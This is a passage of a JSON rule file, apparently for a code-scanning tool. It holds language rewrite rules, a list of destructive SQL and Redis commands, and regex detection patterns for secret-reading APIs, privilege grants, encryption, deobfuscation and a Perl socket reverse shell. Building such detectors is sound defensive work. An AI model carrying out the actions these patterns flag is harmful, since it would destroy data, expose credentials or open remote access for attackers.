+\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|\
+switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?\
+:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\
+\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nm\
+ain()"],["\\\\$0","it"]]},"tcl":{"comment":"(?:^|;)[ \\\\t]*#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\[list\\\\s+([^\\\\[\\\\]$\\"{}]*)\\\\]|(?<=\\\\b(?:set|forea\
+ch) {1,4}\\\\w{1,40} {1,4})\\\\{([^{}$\\\\[\\\\];]*)\\\\}|(?<=\\\\bset {1,4}\\\\w{1,40} {1,4})([\\\\w.~/-]+)|(?<=\\\\b(?:exec|spawn) {1,4}(?:--?\\\\w{1,20} {1,4}){0,3})([^\\\\s\\\\[-][\
+^\\\\n;\\\\]}]*)|(?<=(?:\\\\bfile {1,4}(?:delete|join|normalize|mkdir)|\\\\bglob|\\\\bopen)\\\\b[^\\\\n;\\\\]}\\\\[]{0,300} )(?!-)([$*~/.\\\\w][\\\\w./~*$-]*)","inserts":"\\\\$\\\\{?(?::\
+:)?([A-Za-z_]\\\\w*)\\\\}?","rewrites":[["\\\\$\\\\{?(?:::)?(\\\\w+)\\\\}?","$1"],["\\\\b(?:exec|spawn)\\\\s+(?:--?\\\\w+\\\\s+)*(\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)|\\"\\\\d+\\")","system($\
+1)"],["\\\\[\\\\s*file\\\\s+(?:join|normalize)\\\\s+(\\\\S+)\\\\s+(\\\\S+?)\\\\s*\\\\]","join_path($1, $2)"],["\\\\[\\\\s*glob\\\\s+(?:-nocomplain\\\\s+|-types?\\\\s+\\\\S+\\\\s+|--\\\\s+)*-dir(\
+?:ectory)?\\\\s+(\\\\S+)\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob(join_path($1, $2))"],["\\\\[\\\\s*glob\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob($1)"],["\\\\bfile\\\\s+tempfil\
+e\\\\s+(\\\\w+)(?:\\\\s+\\\\w+)?","$1 = mktemp()"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*\\\\{\\\\*\\\\}([^\\\\n;\\\\]}]+)",";rm_rf(words($1))"],["\\\\bfile\\\\s+delete\\\\s+(?:\
+-force\\\\s+|--\\\\s+)*([^\\\\n;\\\\]}]+)",";rm_rf($1)"],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["(\\\\brm_rf\\\\((?\
+:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["\\\\[\\\\s*open\\\\s+(\\\\S+?)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s*\\\\]","open($1, \\"$2\\")"],["\\\\bfore\
+ach\\\\s+(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\w+\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))\\\\s*\\\\{","for ($1 of words($2)) {"],["\\\\bproc\\\\s+(\\\\w+)\\\\s+\\\\{(\\\\w*)\\\\}\\\\s*\\\\{","function $1($\
+2) {"],["\\\\bset\\\\s+(\\\\w+)\\\\s+\\\\[?([^\\\\n;\\\\]}]+)","$1 = $2"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+)\\\\s*(?=$|[;}])","$1($2)"],["[\\\\[\\\\]]"," "]]\
+},"lisp":{"comment":";[^\\\\n]*","texts":"(?:#p)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\?\\\\\\\\?.","rewrites":[["(?<=[\\\\w\\"])[-\\\\/](?=\\\\w)","_"],["\\\\b[a-z_]\\\\w*:{1,2}(\
+?=\\\\w)",""],["\\\\(\\\\s*(?:dolist|loop\\\\s+for|for\\\\s+\\\\(?\\\\[?)\\\\s+\\\\(*\\\\s*(\\\\w+)\\\\s+(?:in\\\\s+)?","; for $1 of "],["\\\\(\\\\s*(?:let\\\\*?|if_let\\\\*?|when_let\\\\*?)\\\\s+\\\\\
+(\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+","; $1 = ("],["(?<=\\\\)\\\\s{0,9})\\\\(\\\\s{0,9}(\\\\w+)\\\\s+(?=\\\\([^()]*\\\\)\\\\s*\\\\)\\\\s*\\\\)?\\\\s*\\\\()","; $1 = ("],["\\\\(\\\\s*(?:setq|defvar|defconst|\
+defparameter|define|setf)\\\\s+(\\\\w+)\\\\s+","; $1 = ("],["\\\\(\\\\s*(?:defun|define)\\\\s+\\\\(?(\\\\w+)\\\\s+\\\\(?([^()]*)\\\\)","; function $1($2) { "],["\\\\(\\\\s*lambda\\\\s+\\\\((\
+[^()]*)\\\\)\\\\s*","(($1) => "],["\\\\(\\\\s*(?:progn|begin|when|unless|if|and|or|condition_case|ignore_errors|save_excursion|display)\\\\s","; ("],["['#]{1,2}(?=[(\\\\w])\
+",""],["\\\\(\\\\s*(?:expand_file_name|merge_pathnames)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s+(\\\\w+|\\"\\\\d+|\\\\([^()]*\\\\)|\\"\\\\d+\\")\\\\s*\\\\)","join_path($2, $1)"],["\\\\(\\\\s*(\\\\w[\\\\w/:]*\
+)(?=[\\\\s)])\\\\s*","$1("],["((?:\\"\\\\d+\\"|\\\\)|(?<![=>]\\\\s{0,4})\\\\b(?!of\\\\b|for\\\\b|function\\\\b)\\\\w+))\\\\s+(?=[\\"\\\\w(])(?!of\\\\b|=)","$1, "],[",\\\\s*(?:nil|t)\\\\b",""]]}\
+,"haskell":{"comment":"\\\\{-[\\\\s\\\\S]*?-\\\\}|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'(?:[^'\\\\\\\\]|\\\\\\\\.)'","rewrites":[["^import\\\\b[^\\\\n]*",""],["\\\\b\
+(?:[A-Z]\\\\w*\\\\.)+(?=[a-z])",""],["<-","="],["<>|\\\\+\\\\+","+"],["<\\\\/>","/"],["\\\\b(\\\\w+)\\\\s*=\\\\s*getHomeDirectory\\\\b","$1 = \\"~\\""],["\\\\blet\\\\s+(?=\\\\w+\\\\s*=)",""]\
+,["\\\\b(?:mapM_|traverse_|forConcurrently_)\\\\s+(\\\\w+)\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","map($1, $2)"],["\\\\bforM_\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)\\\\s*\\\\$?\\\\s*\\\\\\\\(\\\\w+)\\\\s*-\
+>","for ($2 of $1); "],["\\\\b(callCommand|system|shell|spawnCommand|remove\\\\w+|readFile|words)\\\\s+(?:\\\\$\\\\s*)?(?=[\\"(\\\\w])(\\"\\\\d+\\"(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\
+\\w+))*|\\\\w+(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\([^()]*\\\\))","$1($2)"],["\\\\b(callProcess|readProcess|rawSystem)\\\\s+(\\"\\\\d+\\")\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\])","spawn($2\
+, $3)"],["\\\\b(writeFile|appendFile)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\([^()]*\\\\))\\\\s+(\\"\\\\d+\\"|\\\\w+)","$1($2, $3)"]]},"octave":{"comment":"[%#][^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\
+\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|(?<![\\\\w)\\\\]}])'((?:[^'\\\\n]|'')*)'","rewrites":[["\\\\brmdir\\\\s*\\\\(([^(),]*),\\\\s*\\"\\\\d+\\"\\\\s*\\\\)","rm_rf($1)"],["\\\\b(?:delete|unlink)\\\\s*\\\\("\
+,"remove("],["\\\\b(?:unix|dos|shell_cmd)\\\\s*\\\\(","system("],["\\\\bfullfile\\\\s*\\\\(","join_path("],["\\\\{([^{};]*\\"[^{};]*)\\\\}","[$1]"],["\\\\[\\\\s*(\\"\\\\d+\\")\\\\s+(?=[\\"\
+\\\\w])","[$1, "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*=\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","for ($1 of $2);"],["(\\\\b[a-z]\\\\w*)\\\\{[\\\\w:]+\\\\}","$1"]]}},"awk":{"comment":["#"],"sigils":"\
+","interpolation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"lines":"statements"},"operators":{"||":1,"??":1,"or":1,"&&":2,"a\
+nd":2,"==":3,"!=":3,"===":3,"!==":3,"<":3,">":3,"<=":3,">=":3,"=~":3,"in":3,"is":3,"..":3,"|":4,"^":5,"&":6,"<<":7,">>":7,"+":8,"-":8,".":8,"*":9,"/":9,"%":9,"/\
+/":9,"x":9,"**":10},"sql":[{"words":[["TRUNCATE"],["TABLE"]],"does":"truncate","name":2},{"words":[["TRUNCATE"]],"does":"truncate","name":1},{"words":[["CREATE"\
+],["USER","ROLE","LOGIN"]],"does":"create-user","name":2},{"words":[["ALTER"],["USER","ROLE","LOGIN"]],"does":"alter-user","name":2},{"words":[["ALTER"],["SYSTE\
+M"]],"does":"set-global","name":3},{"words":[["SET"],["GLOBAL","PERSIST"]],"does":"set-global","name":2},{"words":[["PRAGMA"],["WRITABLE_SCHEMA"]],"does":"set-g\
+lobal","name":1},{"words":[["SHUTDOWN"]],"does":"shutdown"},{"words":[["ATTACH"],["DATABASE"]],"does":"attach","name":2},{"words":[["ATTACH"]],"does":"attach","\
+name":1},{"words":[["KILL"]],"does":"kill","name":1},{"words":[["FLUSHALL","FLUSHDB"]],"does":"flush","name":0},{"words":[["CREATE"],["DATABASE","SCHEMA"]],"doe\
+s":"create","name":2},{"words":[["PURGE"]],"does":"purge","name":1},{"words":[["CONFIG"],["SET"],["DIR","DBFILENAME"]],"does":"set-global","name":2},{"words":[[\
+"RESET"],["MASTER","REPLICA","SLAVE"]],"does":"purge","name":1}],"signs":{"name-tests":["[=!<>]=|[<>]|\\\\b(?:in|match)\\\\b|=~|\\\\b(?:endswith|startswith|endsWith|s\
+tartsWith|includes|test|match|search|end_with\\\\?|start_with\\\\?)"],"kind-tests":["is_?(?:dir|file|link|symlink)|isDirectory|isFile|isSymbolicLink|exists|(?:direc\
+tory|file|exist)\\\\?|-[dfel]\\\\b","i"],"age-tests":["[acm]time|birthtime|\\\\bst_size|getsize|\\\\.size\\\\b|file(?:size|mtime)|\\\\s-[MAC]\\\\s"],"secret-methods":["^(?:ge\
+t|batch_?get)_?secret_?values?$|^(?:access_?secret_?version|get_?secret|read_?secret(?:_?version)?|get_?(?:frozen_?)?credentials)$|^(?:list|read)_?(?:namespaced\
+_?)?secret(?:_?for_?all_?namespaces)?$","i"],"granting-methods":["^(?:attach|put)_?(?:user|role|group)_?policy(?:_?command)?$|^authorize_?security_?group_?ingre\
+ss(?:_?command)?$|^(?:create_?access_?key|add_?user_?to_?group|put_?bucket_?(?:policy|acl))(?:_?command)?$","i"],"emptying-methods":["^(?:empty|obliterate|clear\
+|drop|flush_?(?:all|db|database))(?:_?(?:async|sync))?$|^(?:refresh|drop|reset|clear|wipe|truncate|purge)_?(?:all|db|database|schema|tables?|collections?|storag\
+e)(?:_?(?:async|sync))?$","i"],"own-addresses":["\\\\blocalhost\\\\b|\\\\b127\\\\.\\\\d|\\\\b0\\\\.0\\\\.0\\\\.0\\\\b|\\\\[?::1\\\\b|^(?:unix|file|sqlite):|^\\\\.{0,2}/"],"service-option\
+s":["api_?key|token|secret|credential|password|authorization|access_?key|^(?:basic_?)?auth$|^endpoint$|^(?:base|prefix|org|server|api)_?ur[li]$|^(?:hosts?|serve\
+rs?|brokers|bootstrap_?servers)$|(?:project|account|subscription|site|space|app|tenant)_?id$","i"],"service-variables":["TOKEN|KEY|SECRET|PASS|PAT$|AUTH|CRED|AC\
+COUNT|ENDPOINT|DSN|(?:UR[LI]|HOST|_ID|SID|DOMAIN|SERVER)$"],"service-addresses":["^(?:https?|wss?|grpcs?|nats|amqps?|ldaps?)://[^/]|^(?:[\\\\w-]+\\\\.)+(?:com|net|o\
+rg|io|dev|local|internal|cloud|corp)(?::\\\\d+)?$|^\\\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+(?::\\\\d+)?$"],"own-data-modules":["^(?:\\\\.{1,2}|@|~)/(?:[\\\\w./-]*[/.-])?(?:db|database\
+|data-?source|orm|prisma|knex|sequelize|mongoose|models?)(?:[/.-]|$)","i"],"client-makers":["^[A-Z]|^(?:create|connect|init|make|open|new|from|extend|with|get_?\
+client)|(?:client|driver|session|pool|engine|connection|sdk|api)$","i"],"negative-tests":["\\\\bnot\\\\b|!=|!~|!\\\\s*\\\\(?[\\\\w.]+|\\\\bunless\\\\b|\\\\breject\\\\b"],"skips":\
+["\\\\b(?:continue|next|return)\\\\b"],"stdin-names":["^(?:0|-|/dev/(?:stdin|fd/0)|/proc/self/fd/0|php://stdin)$"],"mock-options":["^(?:spec|spec_set|autospec|creat\
+e|name|unsafe|new_callable|target|attribute|new)$"],"writing-flags":["^File\\\\.(?:Constants\\\\.)?(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$|^(?:os|fs\\\\.constants|constan\
+ts)?\\\\.?O_(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$"],"sending-methods":["gist|upload|put_?object|comment|send|post","i"],"deleting-requests":["^DELETE(?: /|$)|\\\\bmut\
+ation\\\\b[\\\\s\\\\S]*(?:\\\\bdelete|Delete)\\\\w*\\\\s*\\\\("],"place-options":["ur[li]|host|server|endpoint|address|database|^db|file|storage|^path$|dsn","i"],"passing-dat\
+a":["^memory://|:memory:|^(?:sqlite\\\\w*(?:\\\\+\\\\w+)?:/{2,3})?/tmp/|^sqlite://$|^mock$"],"passing-databases":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.)\
+)|^(?:[\\\\w.-]+/)*(?:test|tests|tmp|scratch)(?:[_-][\\\\w-]*)?\\\\.(?:db|sqlite3?)$"],"harmless-names":["^(?:None|null|undefined|true|false|True|False|(?:\\\\w+\\\\.)*\\\\\
+w*(?:Error|Exception|DEFAULT|Exit|Interrupt))$"],"file-calls":["^(?:os\\\\.(?:remove|unlink|rmdir|removedirs|rename|replace|truncate)|shutil\\\\.\\\\w+|pathlib\\\\.\\\\w+\
+)$"],"imitation":["^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:fakeredis|mongomock|pymongo_inmemory|ioredis-mock|redis-mock)\\\\b|^[^#\\\\n]*(?:\\\\b(?\
+:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:mongodb-memory-server|pg-mem|testcontainers)\\\\b|^from sqlalchemy import .*\\\\bcreate_mock_engine\\\\b|^(?![\\\\s\\\\S]*\\\\b(?:\
+DBI|dbi):(?!Mock\\\\b))[\\\\s\\\\S]*\\\\b(?:DBI|dbi):Mock:","m"],"links-repositories":["worktree|symlink|gitdir|git-dir|\\\\.git['\\"]"],"own-folder":["getcwd|\\\\bcwd\\\\(|__\
+dirname|__file__|abspath|resolve|pwd"],"in-memory":["['\\"](?:sqlite3?:(?:\\\\/\\\\/)?|(?:dbi|DBI):SQLite:(?:dbname=)?)\\\\/(?:tmp|var\\\\/tmp|dev\\\\/shm)\\\\/(?![^'\\"]*\\\\.\
+\\\\.)|['\\"][\\\\w:=/+]*:memory:['\\"]|['\\"]jdbc:(?:h2|hsqldb|derby|sqlite)::?mem|\\\\bSQLite\\\\.DB\\\\(\\\\s*\\\\)|\\\\bSequel\\\\.sqlite\\\\b(?!\\\\s*\\\\(?\\\\s*['\\"])|['\\"]sqlite:\\\\/\
+\\\\/['\\"]"],"database":["\\\\b(?:mongodb|postgres|mysql|mariadb|redis|rediss|mssql|oracle)\\\\w*(?:\\\\+\\\\w+)?:\\\\/\\\\/|['\\"](?!django)[\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]",\
+"i"],"driver":["\\\\b(?:psycopg\\\\d?|asyncpg|aiopg|pymysql|MySQLdb|mysql2?|mariadb|cx_Oracle|oracledb|pyodbc|pymssql|pymongo|motor)\\\\b|\\\\b(?:mongoose|mongodb|iored\
+is|snowflake|clickhouse\\\\w*|DATABASE_URL|DB_URL)\\\\b|['\\"]pg['\\"]"],"own-connection":["(?:^|[\\\\n;])\\\\s*(?:from|import)\\\\s+(?!(?:sqlalchemy|sqlmodel|sqlite3|aiosq\
+lite|tempfile|os|sys|pathlib|shutil|json|re|time|datetime|contextlib|asyncio|typing|uuid|random|pytest|unittest|pandas|dataclasses|textwrap|subprocess|logging|d\
+ecimal|enum|collections|itertools|functools|alembic)\\\\b)\\\\w|['\\"](?:\\\\.{1,2}|@|~)\\\\/|\\\\bargv\\\\b|\\\\bsymlink|\\\\(\\\\s*['\\"][\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]|(?:sqlit\
+e3|apsw)\\\\.Connection|SqliteDatabase"],"emulated":["^(?![\\\\s\\\\S]*https?:\\\\/\\\\/(?!localhost|127\\\\.))[\\\\s\\\\S]*(?:UseDevelopmentStorage=true|\\\\bapi_base\\\\b[^\\\\n]*[\
+'\\"]http:\\\\/\\\\/(?:localhost|127\\\\.))"],"data-library":["(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:mikro-orm|typeorm|prisma|sequelize|drizzle|kysely|ob\
+jection|bookshelf|peewee)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:tortoise|pony|sqlalchemy|sqlmodel|databases|neo4j|cassandra)|(?:import|from|requir\
+e\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:rethinkdb|surrealdb|influx|libsql|neon|planetscale|duckdb|rq|bull)|\\\\b\\\\w*(?:DATABASE|DB|MONGO|REDIS|POSTGRES|PG|MYSQL)_?(?:URL|U\
+RI|DSN)\\\\b","i"],"database-address":["^(?![\\\\s\\\\S]*['\\"]sqlite:)[\\\\s\\\\S]*(?:\\\\w:\\\\/\\\\/|D(?:ATA)?B(?:ASE)?_UR[IL]\\\\b)"],"attaches":["\\\\bATTACH\\\\b","i"],"key-stor\
+e":["redis|valkey|keydb|memcache","i"],"unconditional":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|next|select|reject|filter|break|limit|take|first|case)\\\\b|\\\\?))[\\\\s\\\\S]\
+*\\\\w"],"http-client":["^(?!(?:(?![\\\\s\\\\S]*(?:new [\\\\w\\\\\\\\]*Client\\\\b[\\\\s\\\\S]*){2})[\\\\s\\\\S]*\\\\bMock(?:Handler|HttpClient|Response)\\\\b)|[\\\\s\\\\S]*\\\\bHttp::fake\\\\b)\
+[\\\\s\\\\S]*\\\\b(?:GuzzleHttp|HttpClient)\\\\b"],"stubbed-services":["^(?![\\\\s\\\\S]*(?:Client|Resource)\\\\.new\\\\b(?!\\\\([^)]*\\\\bstub_responses: true\\\\b))[\\\\s\\\\S]*\\\\bstub\
+_responses: true\\\\b"],"stubbed-requests":["^(?![\\\\s\\\\S]*(?:axios|(?:node|cross)-fetch|superagent|needle|\\\\bky\\\\b|request['\\"]|phin|bent|wretch|['\\"](?:got|https\
+?|http2|net|node:\\\\w+|child_process)['\\"]|enableNetConnect|\\\\bif\\\\b))[\\\\s\\\\S]*\\\\bnew MockAgent\\\\(\\\\)[\\\\s\\\\S]*\\\\bdisableNetConnect\\\\(\\\\)[\\\\s\\\\S]*\\\\bsetGlobalDisp\
+atcher\\\\(|^(?![\\\\s\\\\S]*(?:allow_net_connect|disable!|\\\\bif\\\\b|\\\\bunless\\\\b))[\\\\s\\\\S]*\\\\brequire [\\"']webmock(?:/(?:rspec|minitest)[\\"']|[\\"'][\\\\s\\\\S]*WebMock\\\\.\
+enable!)[\\\\s\\\\S]*\\\\bstub_request\\\\b"],"dry-files":["^(?![\\\\s\\\\S]*\\\\b(?:FileUtils(?:\\\\.|::(?![DN])\\\\w)|include FileUtils(?!::)|(?:class|module)\\\\s|(?:File(?!\\\\.j\
+oin)|Dir|Pathname)\\\\b))[\\\\s\\\\S]*\\\\binclude FileUtils::(?:DryRun|NoWrite)\\\\b"],"lists-processes":["^(?![\\\\s\\\\S]*\\\\b(?:if|select|grep|when|unless|filter)\\\\b[^\\\\n]\
+*\\\\b(?:comm|cmdline|exe|status|environ|cwd)\\\\b)[\\\\s\\\\S]*[\\"']/proc(?:[\\"']|/(?:\\\\*|\\\\[|\\\\\\\\d))"],"sets-names":["\\\\b(?:globals|vars|locals|setattr|exec|eval|extr\
+act|reload)\\\\s*\\\\(|\\\\bimport\\\\s+\\\\*"],"plain-switches":["^(?![\\\\s\\\\S]*(?:set_defaults|\\\\bdest\\\\s*=|\\\\bargv\\\\b|parse_(?:known_)?args\\\\([^)]|setattr|vars\\\\(|fromf\
+ile))[\\\\s\\\\S]*\\\\bargparse\\\\b"],"reads-environment":["\\\\bprocess\\\\.env\\\\b|\\\\bos\\\\.environ|\\\\bgetenv\\\\b"],"reaches-around":["\\\\b(?:patch(?:\\\\.\\\\w+)?|setattr)\\\\([^\
+\\\\n]*\\\\)\\\\s+if\\\\b|\\\\bnullcontext\\\\b|__wrapped__|\\\\[['\\"]\\\\w+['\\"]\\\\]\\\\(|mockImplementation\\\\(\\\\s*\\\\)|\\\\bPause\\\\b|\\\\b(?:globals|vars|locals|exec|eval|reload|__di\
+ct__|__builtins__|sys\\\\.modules|import_module|__import__|_getframe|f_globals|gc\\\\.\\\\w+)\\\\b|\\\\b(?:temp_original|get_original|getOriginal|wrappedMethod|(?:require\
+|import)Actual|importOriginal|require\\\\.cache|createRequire|getBuiltinModule|binding)\\\\b|\\\\bimport\\\\s*\\\\*|\\\\bimport\\\\(\\\\s*(?!['\\"\`][/.])|\\\\bReflect\\\\.|\\\\bObject\
+\\\\.(?:assign|definePropert\\\\w+|setPrototypeOf)\\\\(\\\\s*[\\\\w.]+\\\\s*,|\\\\bsyncBuiltin\\\\w+|\\\\bWorker\\\\b|\\\\b(?:def|class|function)\\\\s+(?:patch|mock\\\\w*|\\\\w*Mock|Patche\
+r|Stubber|responses|respx|sinon|jest|vi|nock|setupServer)\\\\b|\\\\.(?:patch|object|\\\\w*Mock|spyOn|stub|method|mock_aws|activate|listen|disableNetConnect)\\\\s*=[^=]|\
+\\\\bpatch\\\\s*="],"process-tests":["\\\\b(?:name|cmdline|comm|exe)\\\\b"],"names-processes":["\\\\bif\\\\b[^\\\\n]*\\\\b(?:name|cmdline|cmd|exe|comm)\\\\b"],"several-connection\
+s":["(?:(?:create_engine|newInstance|getConnection|createConnection|new PDO|new DataSource)\\\\s*\\\\([\\\\s\\\\S]*){2}"],"memory-broker":["^(?![\\\\s\\\\S]*(?:conf\\\\b|conf\
+ig|#|\\\\bfrom\\\\s+(?!celery\\\\b)|\\\\bimport\\\\s+(?!Celery\\\\b)))[\\\\s\\\\S]*\\\\bCelery\\\\([^)\\\\n]*\\\\bbroker=['\\"]memory://['\\"]"],"connects":["connection|\\\\.{3}|Object\\\\.a\
+ssign"],"installs-cron":["write_to_user|user\\\\s*="],"by-user":["\\\\busername\\\\b|\\\\buids?\\\\b|[\\"']\\\\w{0,2}[\\"']\\\\s+(?:not\\\\s+)?in\\\\b|\\\\b(?:includes|[sS]tarts_?[wW\
+]ith|ends_?[wW]ith|find|search|match)\\\\(\\\\s*[\\"'/]\\\\w{0,2}[\\"'/]"],"own-settings":["^(?![\\\\s\\\\S]*(?:HOST|database=|using=))[\\\\s\\\\S]*\\\\bsettings\\\\.configure\\\\("]\
+,"production":["\\\\bPROD(?:UCTION)?_\\\\w*(?:UR[LI]|DSN|DB)\\\\b|://[^'\\"\\\\s]*\\\\bprod(?:uction)?[.-]"],"socket-shell":["^(?=[\\\\s\\\\S]*(?:IO::Socket|\\\\bsocket\\\\s*\\\\())\
+[\\\\s\\\\S]*\\\\bopen\\\\s*\\\\(?\\\\s*STDIN\\\\s*,\\\\s*[\\"']?[<>+]{0,2}&"],"repeats":["\\\\b(?:while|for|foreach|until|loop|redo|goto|times|each\\\\w*|upto|downto|step|cycle|map\
+|select|reduce|def|sub|func\\\\w*|fn|eval|exec\\\\w*|lambda|class|trap|require|include|load|__FILE__|argv|ARGV)\\\\b|->\\\\s*\\\\{|=>\\\\s*\\\\{|\\\\*\\\\s*\\\\d|\\\\bx\\\\s*\\\\d|\\\\bfor\
+k\\\\b(?:[\\\\s\\\\S]*?\\\\bfork\\\\b){3}"],"limits":["\\\\bwhere\\\\s*\\\\("],"writes":["\\\\.write|dump|print\\\\s*[{$]|print\\\\([^)\\\\n]*\\\\bfile\\\\s*=|[\\\\w)]\\\\.(?:print|puts)\\\\b|fp\
+uts|fprintf|save|copy|pipe|send|<<|to_\\\\w+\\\\(|fwrite|Writer"],"secret-names":["['\\"](?:\\\\w*_)?(?:TOKEN|KEY|SECRET|PASSW\\\\w*|PASS)(?:_\\\\w*)?['\\"]|\\\\b(?:TOKEN|SEC\
+RET|PASSWORD)\\\\|"],"encrypts":["\\\\.encrypt\\\\(|createCipher|\\\\bcrypt\\\\.|open\\\\((\\\\w+), *[\\"']w[\\"']\\\\)\\\\.write\\\\( *open\\\\(\\\\1\\\\)"],"rolled-back":["^\\\\s*(?:BEGIN(\
+?: TRANSACTION| WORK)?|START TRANSACTION);(?:\\\\s*(?:SELECT|INSERT|UPDATE|DELETE|SAVEPOINT|EXPLAIN|WITH)\\\\s[^;\\\\\\\\]*;)*\\\\s*ROLLBACK;?\\\\s*$","i"],"keeps-real":["p\
+ause|pass_?thr|add_real|real_http|resume|session\\\\s*=|skip_names|modules_to_|use_known|use_cache|deactivate"],"other-imports":["^\\\\s*(?:from|import) (?!boto|mot\
+o|(?:os|sys|json|re|pytest|datetime)\\\\b)|^\\\\s*import [^\\\\n]*,\\\\s*(?!boto|moto|(?:os|sys|json|re)\\\\b)","m"],"several-clients":["(?:boto3\\\\.(?:client|resource)\\\\(\
+[\\\\s\\\\S]*){2}"],"other-requests":["\\\\b(?:httpx|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b"],"other-files":["^(?:import|from) (?:posix|nt|ctypes|_)","m"]\
+,"besides-httpx":["\\\\b(?:requests|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b|assert_all_mocked|\\\\busing\\\\b|rollback"],"besides-fetch":["passthrough|bypa\
+ss|['\\"](?:node:)?(?:net|tls|dgram|http2)['\\"]|socket"],"besides-http":["enableNetConnect|restore|allowUnmocked|passthrough|\\\\bback\\\\b|recorder|NOCK_OFF|adapter\
+|undici|superagent|http2|['\\"](?:node:)?net['\\"]|globalThis|socket|\\\\bky\\\\b|^(?![\\\\s\\\\S]*\\\\bfetch\\\\b[^\\\\n;]{0,20}['\\"]node-fetch['\\"])[\\\\s\\\\S]*\\\\bfetch\\\\s*\\\\("]\
+},"shared":{"functions":{"chr":"characters $all","fromCharCode":"characters $all","fromCodePoint":"characters $all","bytes":"characters $0","bytearray":"charact\
+ers $0","ord":"code-point $0","int":"integer $0 $1","str":"value $0","String":"value $0","strval":"value $0","iter":"value $0","scalar":"value $0","expanduser":\
+"value $0","abspath":"value $0","realpath":"value $0","normpath":"value $0","fspath":"value $0","compile":"value $0","enter_context":"value $0","closing":"value\
+ $0","list":"listed $0","sorted":"listed $0","tuple":"listed $0","set":"listed $0","frozenset":"listed $0","Set":"listed $0","Array.from":"listed $0","from":"li\
+sted $0","b64decode":"fold base64 $0","urlsafe_b64decode":"fold base64 $0","decodebytes":"fold base64 $0","a2b_base64":"fold base64 $0","base64_decode":"fold ba\
+se64 $0","decode_base64":"fold base64 $0","decode64":"fold base64 $0","strict_decode64":"fold base64 $0","urlsafe_decode64":"fold base64 $0","atob":"fold base64\
+ $0","b32decode":"fold base32 $0","b85decode":"fold unread $0","a85decode":"fold unread $0","str_rot13":"fold unread $0","decompress":"fold unread $0","gzinflat\
+e":"fold unread $0","gzuncompress":"fold unread $0","gzdecode":"fold unread $0","inflateSync":"fold unread $0","inflateRawSync":"fold unread $0","gunzipSync":"f\
+old unread $0","b16decode":"fold hex $0","unhexlify":"fold hex $0","a2b_hex":"fold hex $0","fromhex":"fold hex $0","hex2bin":"fold hex $0","strrev":"fold revers\
